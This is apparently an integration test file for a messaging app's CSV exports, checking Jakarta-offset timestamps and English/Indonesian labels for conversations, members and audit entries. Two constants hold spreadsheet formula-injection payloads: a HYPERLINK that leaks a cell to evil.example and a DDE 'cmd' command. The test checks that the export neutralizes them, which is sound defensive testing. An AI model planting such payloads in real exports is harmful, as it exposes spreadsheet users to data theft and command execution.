/**
 * Issue 19 item 4: CSV exports write times in the organization's time zone with its offset (ISO 8601, e.g.
 * "2026-12-02T21:37:05+07:00" for Asia/Jakarta) and a plain-language label beside each raw status or role, in the
 * reader's language. The routes are served over real HTTP as the org's signed-in owner (only Auth.js's `auth()` is
 * stubbed; the session is real and re-read on every request), and the conversation arrives through the signed
 * incoming-message webhook, as a channel would send it.
 */
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { GET as auditExport } from "@/app/api/audit/export/route";
import { GET as conversationsExport } from "@/app/api/conversations/export/route";
import { GET as membersExport } from "@/app/api/members/export/route";
import type { Db } from "@/db/client";
import { conversations, memberships, users } from "@/db/schema";
import type { Membership } from "@/lib/auth/sessions";
import { resolveConversationAsHuman } from "@/lib/conversations/conversation-actions";
import { handleIncomingMessage } from "@/lib/ingest/handle-incoming-message";
import { signWebhook } from "@/lib/ingest/sign";
import { setMemberStatus } from "@/lib/members/change-member";
import { setUiLanguage } from "@/lib/members/set-ui-language";
import { getOrganization } from "@/lib/org/get-organization";
import { updateOrganizationSettings } from "@/lib/org/update-organization";
import { seedQuietOrg, testDb } from "@/test/db";
import { serve } from "@/test/http";
import { signInAs, userIdOf } from "@/test/members";
import { signedIn } from "@/test/signed-in";

vi.mock("server-only", () => ({}));
vi.mock("@/app/_auth/auth", async () => (await import("@/test/signed-in")).authModule);

/** A cell a spreadsheet would run as a formula, in the customer's own words. */
const FORMULA_TEXT = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")`;
const FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";

/** ISO 8601 to the second with Jakarta's offset, nothing else (no "Z", no milliseconds). */
const JAKARTA_ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/;

let db: Db;
let org: Awaited<ReturnType<typeof seedQuietOrg>>;
let owner: Membership;
let server: Awaited<ReturnType<typeof serve>>;
let conversationId: string;

beforeAll(async () => {
  db = await testDb();
  org = await seedQuietOrg(db);
  owner = await signInAs(db, org, "owner");
  // the seeded org reads Indonesian (id-ID) in Jakarta; its locale is set to English (Indonesia) the way Settings ›
  // Organization does, so a member without a choice of their own is an English reader, still in Asia/Jakarta
  const current = (await getOrganization(db, { orgId: org.orgId }))!;
  expect(current.timezone).toBe("Asia/Jakarta");
  await updateOrganizationSettings(db, {
    actor: owner,
    input: { name: current.name, timezone: "Asia/Jakarta", locale: "en-ID", currency: current.currency, businessHours: current.businessHours, holidays: current.holidays },
  });

  server = await serve(async (request) => {
    const url = new URL(request.url);
    if (url.pathname === "/api/webhooks/incoming-message") return handleIncomingMessage(db, request, { model: null });
    const session = request.headers.get("x-as") === "owner" ? { user: { id: owner.userId, sid: owner.sessionId } } : null;
    return signedIn.run(session, () => {
      if (url.pathname === "/api/conversations/export") return conversationsExport(request);
      if (url.pathname === "/api/members/export") return membersExport();
      if (url.pathname === "/api/audit/export") return auditExport(request);
      return Promise.resolve(new Response("no such route", { status: 404 }));
    });
  });

  // a customer writes in through the signed webhook; the owner then resolves it, so its status has a label that
  // differs from the raw value in both languages ("Resolved" / "Selesai")
  const raw = JSON.stringify({
    channel_id: org.channels[0]!.id,
    conversation_id: `c-${randomUUID()}`,
    message_id: `m-${randomUUID()}`,
    contact: { id: `wa:${randomUUID()}`, name: FORMULA_NAME },
    text: FORMULA_TEXT,
    sent_at: new Date().toISOString(),
  });
  const res = await fetch(`${server.url}/api/webhooks/incoming-message`, {
    method: "POST",
    body: raw,
    headers: { "content-type": "application/json", ...signWebhook(org.channels[0]!.secret, raw) },
  });
  expect(res.status).toBe(200);
  conversationId = ((await res.json()) as { conversation_id: string }).conversation_id;
  await resolveConversationAsHuman(db, { actor: owner, conversationId, closedReason: "RESOLVE" });
});
afterAll(() => server?.close());

/** GETs an export as the owner and parses it: the header row and each row keyed by column. */
async function exportAsOwner(path: string): Promise<{ header: string[]; rows: Record<string, string>[] }> {
  const res = await fetch(`${server.url}${path}`, { headers: { "x-as": "owner" } });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  const [header, ...body] = parse(await res.text()) as string[][];
  return { header: header!, rows: body.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!]))) };
}

/** The instant a CSV time stands for, in ms (Date.parse honours the written offset). */
const instantOf = (cell: string) => Date.parse(cell);
/** A stored instant as the CSV writes it: to the whole second (the export drops milliseconds). */
const toTheSecond = (d: Date) => Math.floor(d.getTime() / 1000) * 1000;
/** Jakarta's wall-clock "HH:MM" of an instant, computed independently of the export (UTC + 7 h, no DST). */
const jakartaClock = (d: Date) => new Date(d.getTime() + 7 * 3_600_000).toISOString().slice(11, 16);

async function storedConversation() {
  const [row] = await db
    .select({ createdAt: conversations.createdAt, lastMessageAt: conversations.lastMessageAt, status: conversations.status })
    .from(conversations)
    .where(and(eq(conversations.id, conversationId), eq(conversations.orgId, org.orgId)));
  return row!;
}

describe("conversations CSV", () => {
  it("has the new header, Jakarta times with +07:00 that are the stored instants, and English labels for an English reader", async () => {
    await setUiLanguage(db, { userId: owner.userId, input: { language: "org" } }); // follows the org: en-ID → English
    const { header, rows } = await exportAsOwner("/api/conversations/export");
    expect(header).toEqual(["id", "channel", "contact", "first_message", "handled_by", "status", "status_label", "variant", "messages", "created_at", "last_message_at"]);
    const row = rows.find((r) => r.id === conversationId);
    expect(row, "the webhook's conversation is exported").toBeDefined();

    const stored = await storedConversation();
    expect(stored.status).toBe("RESOLVED");
    expect(row!.status).toBe("RESOLVED");
    expect(row!.status_label).toBe("Resolved");

    for (const [cell, instant] of [[row!.created_at!, stored.createdAt], [row!.last_message_at!, stored.lastMessageAt]] as const) {
      expect(cell).toMatch(JAKARTA_ISO);
      expect(cell.endsWith("Z")).toBe(false);
      expect(instantOf(cell)).toBe(toTheSecond(instant));
      expect(cell.slice(11, 16)).toBe(jakartaClock(instant)); // the team's own clock, not UTC's
    }
  });

  it("follows the reader's own language: after choosing Indonesian the same export's labels are Indonesian", async () => {
    await setUiLanguage(db, { userId: owner.userId, input: { language: "id" } });
    try {
      const { header, rows } = await exportAsOwner("/api/conversations/export");
      // column names are for machines: they stay the same in every language
      expect(header).toEqual(["id", "channel", "contact", "first_message", "handled_by", "status", "status_label", "variant", "messages", "created_at", "last_message_at"]);
      const row = rows.find((r) => r.id === conversationId)!;
      expect(row.status).toBe("RESOLVED");
      expect(row.status_label).toBe("Selesai");
      expect(instantOf(row.created_at!)).toBe(toTheSecond((await storedConversation()).createdAt));
      expect(row.created_at).toMatch(JAKARTA_ISO);
    } finally {
      await setUiLanguage(db, { userId: owner.userId, input: { language: "org" } });
    }
    // and back to following the org (English)
    const again = (await exportAsOwner("/api/conversations/export")).rows.find((r) => r.id === conversationId)!;
    expect(again.status_label).toBe("Resolved");
  });

  it("still neutralizes a customer's formula-looking name and message", async () => {
    const row = (await exportAsOwner("/api/conversations/export")).rows.find((r) => r.id === conversationId)!;
    expect(row.first_message).toBe(`'${FORMULA_TEXT}`);
    expect(row.contact).toBe(`'${FORMULA_NAME}`);
  });
});

describe("members CSV", () => {
  const MEMBER_HEADER = ["name", "email", "role", "role_label", "status", "status_label", "last_seen_at", "availability", "availability_label", "capacity", "joined_at"];

  async function storedMembers() {
    const rows = await db
      .select({ email: users.email, lastSeenAt: memberships.lastSeenAt, joinedAt: memberships.createdAt })
      .from(memberships)
      .innerJoin(users, eq(users.id, memberships.userId))
      .where(eq(memberships.orgId, org.orgId));
    return new Map(rows.map((r) => [r.email, r]));
  }

  beforeAll(async () => {
    // a deactivated member, for the other status label
    await setMemberStatus(db, { actor: owner, input: { userId: await userIdOf(db, org, "supervisor"), status: "deactivated" } });
  });

  it("labels roles and statuses in English for an English reader, with joined and last-seen times in +07:00", async () => {
    await setUiLanguage(db, { userId: owner.userId, input: { language: "en" } });
    try {
      const { header, rows } = await exportAsOwner("/api/members/export");
      expect(header).toEqual(MEMBER_HEADER);
      const by = (role: string) => rows.find((r) => r.email === `${role}@${org.emailDomain}`)!;
      expect(by("owner")).toMatchObject({ role: "owner", role_label: "Owner", status: "active", status_label: "Active" });
      expect(by("agent")).toMatchObject({ role: "agent", role_label: "Agent", status: "active", status_label: "Active", availability_label: expect.stringMatching(/^(Online|Offline)$/) });
      expect(by("supervisor")).toMatchObject({ role: "supervisor", role_label: "Supervisor", status: "deactivated", status_label: "Deactivated" });

      const stored = await storedMembers();
      expect(rows).toHaveLength(stored.size);
      for (const row of rows) {
        const s = stored.get(row.email!)!;
        expect(row.joined_at).toMatch(JAKARTA_ISO);
        expect(instantOf(row.joined_at!)).toBe(toTheSecond(s.joinedAt));
        expect(row.joined_at!.slice(11, 16)).toBe(jakartaClock(s.joinedAt));
        if (s.lastSeenAt === null) expect(row.last_seen_at).toBe("");
        else {
          expect(row.last_seen_at).toMatch(JAKARTA_ISO);
          expect(instantOf(row.last_seen_at!)).toBe(toTheSecond(s.lastSeenAt));
        }
      }
      // the owner signed in, so at least their last-seen time is there to check
      expect(by("owner").last_seen_at).toMatch(JAKARTA_ISO);
    } finally {
      await setUiLanguage(db, { userId: owner.userId, input: { language: "org" } });
    }
  });

  it("labels them in Indonesian for a reader who chose Indonesian", async () => {
    await setUiLanguage(db, { userId: owner.userId, input: { language: "id" } });
    try {
      const { header, rows } = await exportAsOwner("/api/members/export");
      expect(header).toEqual(MEMBER_HEADER);
      const by = (role: string) => rows.find((r) => r.email === `${role}@${org.emailDomain}`)!;
      expect(by("owner")).toMatchObject({ role: "owner", role_label: "Pemilik", status: "active", status_label: "Aktif" });
      expect(by("agent")).toMatchObject({ role: "agent", role_label: "Agen", status: "active", status_label: "Aktif" });
      expect(by("supervisor")).toMatchObject({ role: "supervisor", status: "deactivated", status_label: "Dinonaktifkan" });
      expect(by("owner").joined_at).toMatch(JAKARTA_ISO);
    } finally {
      await setUiLanguage(db, { userId: owner.userId, input: { language: "org" } });
    }
  });
});

describe("audit log CSV", () => {
  it("keeps the raw action and changes and writes them in plain words beside, in the reader's language", async () => {
    // beforeAll changed the org's locale the way Settings › Organization does: one audited change
    const read = async () => (await exportAsOwner("/api/audit/export")).rows.find((r) => r.action === "organization.updated")!;
    await setUiLanguage(db, { userId: owner.userId, input: { language: "en" } });
    try {
      const { header } = await exportAsOwner("/api/audit/export");
      expect(header).toEqual(["created_at", "actor", "area", "action", "action_label", "target", "changes", "changes_label"]);
      const en = await read();
      expect(en).toMatchObject({ action: "organization.updated", action_label: "Organization settings changed", changes: "locale: id-ID → en-ID", changes_label: "Language and formats: id-ID → en-ID" });
      expect(en.created_at).toMatch(JAKARTA_ISO);
      await setUiLanguage(db, { userId: owner.userId, input: { language: "id" } });
      const id = await read();
      expect(id).toMatchObject({ action: "organization.updated", action_label: "Pengaturan organisasi diubah", changes: "locale: id-ID → en-ID", changes_label: "Bahasa dan format: id-ID → en-ID" });
    } finally {
      await setUiLanguage(db, { userId: owner.userId, input: { language: "org" } });
    }
  });
});
